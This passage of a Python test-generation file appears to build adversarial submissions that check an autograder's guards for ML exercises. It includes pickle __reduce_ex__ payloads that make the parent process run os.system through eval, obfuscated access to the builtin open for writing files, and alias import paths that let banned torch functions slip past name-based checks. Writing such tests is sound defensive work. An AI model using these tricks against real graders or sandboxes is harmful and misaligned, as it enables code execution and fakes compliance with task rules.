                return (logging.FileHandler, (@PATH@,))
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return w * 0, {"x": _Bomb()}
    """,
    )

    # why: a tensor subclass whose __reduce_ex__ makes the parent's unpickler run eval.
    add(
        "protocol-parent-unpickle-tensor-reduce-ex",
        "optimizers.sgd",
        prelude="""
        class _T(torch.Tensor):
            def __reduce_ex__(self, proto):
                return (eval, ("__import__('os').system(" + repr(@CMD@) + ")",))
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return (w * 0).as_subclass(_T), {}
    """,
    )

    # why: returning an instance of a student class makes the parent IMPORT the student module unrestricted:
    # module-level code that the run-time guards stop in the child succeeds there.
    add(
        "protocol-parent-imports-student-module",
        "optimizers.sgd",
        prelude="""
        try:
            getattr(getattr(len, "__se" + "lf__"), "op" + "en")(@PATH@, "w").close()
        except Exception:
            pass
        class _State(dict):
            pass
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return w * 0, _State()
    """,
    )

    # why: a result that unpickles to NaN in the parent (whatever the child's value checks saw).
    add(
        "protocol-parent-unpickle-to-nan",
        "optimizers.sgd",
        prelude="""
        class _N(torch.Tensor):
            def __reduce_ex__(self, proto):
                return (float, ("nan",))
    """,
        source="""
        def sgd(w, dw, state, lr=1e-2):
            return (w * 0).as_subclass(_N), {}
    """,
    )

    # =========================================================================================
    fam("14-alias-paths-and-unlisted-routes")
    # why: torch.nn.modules.normalization.F.layer_norm is F.layer_norm under a path no pattern names.
    add(
        "path-normalization-F-layer-norm",
        "transformer.layer_norm",
        prelude="import torch.nn.modules.normalization\n",
        source="""
        def layer_norm(x, weight, bias, eps=1e-5):
            return torch.nn.modules.normalization.F.layer_norm(x, x.shape[-1:], weight, bias, eps)
    """,
    )

    # why: torch.functional.F is torch.nn.functional too.
    add(
        "path-torch-functional-F-layer-norm",
        "transformer.layer_norm",
        source="""
        def layer_norm(x, weight, bias, eps=1e-5):
            return torch.functional.F.layer_norm(x, x.shape[-1:], weight, bias, eps)
    """,
    )

    # why: torch.embedding (the aten op at top level) is not "torch.nn.functional.embedding" by name.
    add(
        "path-torch-embedding-toplevel",
        "positional.embed_tokens",
        source="""
        def embed_tokens(tokens, embedding, pe):
            return torch.embedding(embedding, tokens) * math.sqrt(embedding.shape[-1]) + pe[: tokens.shape[1]]
    """,
    )

    # why: torch.nn.modules.sparse.F.embedding.
    add(
        "path-sparse-F-embedding",
        "positional.embed_tokens",
        prelude="import torch.nn.modules.sparse\n",
        source="""
        def embed_tokens(tokens, embedding, pe):
            return torch.nn.modules.sparse.F.embedding(tokens, embedding) * math.sqrt(embedding.shape[-1]) + pe[: tokens.shape[1]]
    """,
    )

    # why: torch.nn.modules.loss.F.cross_entropy.
    add(
        "path-loss-F-cross-entropy",
        "rnn.softmax_cross_entropy",
        prelude="import torch.nn.modules.loss\n",
        source="""
        def softmax_cross_entropy(logits, targets):
            return torch.nn.modules.loss.F.cross_entropy(logits, targets)
    """,
    )

    # why: torch.nn.modules.rnn.LSTMCell: "torch.nn.LSTM*" by path and "*lstm*" case-sensitively both miss it.
    add(
        "path-modules-rnn-lstmcell",
        "lstm_gru.lstm_cell",
        prelude="import torch.nn.modules.rnn\n",
        source="""
        def lstm_cell(x, h_prev, c_prev, W_ih, W_hh, b_ih, b_hh):
            cell = torch.nn.modules.rnn.LSTMCell(W_ih.shape[1], W_hh.shape[1], dtype=x.dtype, device=x.device)
            with torch.no_grad():
                for p, value in zip(cell.parameters(), (W_ih, W_hh, b_ih, b_hh)):
                    p.copy_(value)
                h, c = cell(x, (h_prev, c_prev))
            return h.detach().clone(), c.detach().clone()
    """,
    )

    # why: torch.nn.modules.rnn.RNNCell for the Elman cell (b_h as the input bias, zero hidden bias).
    add(
        "path-modules-rnn-rnncell",
        "rnn.rnn_cell",
        prelude="import torch.nn.modules.rnn\n",
        source="""
        def rnn_cell(x, h_prev, W_xh, W_hh, b_h):
            cell = torch.nn.modules.rnn.RNNCell(W_xh.shape[1], W_hh.shape[0], dtype=x.dtype, device=x.device)
            with torch.no_grad():
                for p, value in zip(cell.parameters(), (W_xh, W_hh, b_h, torch.zeros_like(b_h))):
                    p.copy_(value)
                return cell(x, h_prev).detach().clone()
    """,
    )

    # why: F.torch is torch: "F.torch.autograd.grad" does not start with "torch.autograd".
    add("path-F-torch-autograd-grad", "rnn.rnn_bptt", source=bptt("F.torch.autograd.grad(loss, ps)"))

    # why: manual reverse mode over grad_fn/next_functions: no backward, no torch.autograd, no requires_grad_();
    # leaves made by the requires_grad ATTRIBUTE and grad enabled by torch.set_grad_enabled (neither is listed).
    add("path-grad-fn-walk-manual-autograd", "rnn.rnn_bptt", prelude=_BACKPROP, source=bptt("_backprop(loss, ps)"))

    # why: the same with leaves from a factory keyword (requires_grad=True) and torch.inference_mode(False).
    add(
        "path-grad-fn-walk-factory-kwarg",
        "rnn.rnn_bptt",
        prelude=_BACKPROP,
        source=bptt(
            "_backprop(loss, ps)",
            req="pass",
            enable="torch.inference_mode(False)",
            pre="params = {k: torch.tensor(v.tolist(), dtype=v.dtype, device=v.device, requires_grad=True) for k, v in params.items()}\n"
            "h0 = torch.tensor(h0.tolist(), dtype=h0.dtype, device=h0.device, requires_grad=True)\n",
        ).replace(
            "params[n].detach().clone() for n in names[:5]] + [h0.detach().clone()]",
            "params[n] for n in names[:5]] + [h0]",
        ),
    )

    # why: torch.optim.adam.adam, the functional form of Adam (a module path, not torch.optim.Adam).
    add(
        "path-torch-optim-functional-adam",
        "optimizers.adam",
        prelude="from torch.optim.adam import adam as _fadam\n",
        source="""
        def adam(w, dw, state, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
            p = w.detach().clone()
            m = state["m"].clone() if state else torch.zeros_like(w)
            v = state["v"].clone() if state else torch.zeros_like(w)
            step = torch.tensor(float(state["step"] if state else 0))
            _fadam([p], [dw.detach().clone()], [m], [v], [], [step], foreach=False, capturable=False, differentiable=False,
                   fused=None, grad_scale=None, found_inf=None, has_complex=False, amsgrad=False, beta1=betas[0],
                   beta2=betas[1], lr=lr, weight_decay=0.0, eps=eps, maximize=False)
            return p, {"step": int(step), "m": m, "v": v}
    """,
    )

    # why: clip_grad_norm by torch.nn.utils.clip_grad via a string path (pkgutil is innocent-looking).
    add(
        "path-clip-grad-by-resolve-name",
        "optimizers.clip_grad_norm",
        prelude="import pkgutil\n",
        source="""
        def clip_grad_norm(grads, max_norm):
            if not grads:
                return [], torch.tensor(0.0)
            fn = pkgutil.resolve_name("torch.nn.utils:" + "clip_grad_" + "norm_")
            ps = [g.detach().clone() for g in grads]
            for p, g in zip(ps, grads):
                p.grad = g.detach().clone()
            total = fn(ps, max_norm)
            return [p.grad for p in ps], total
    """,
    )
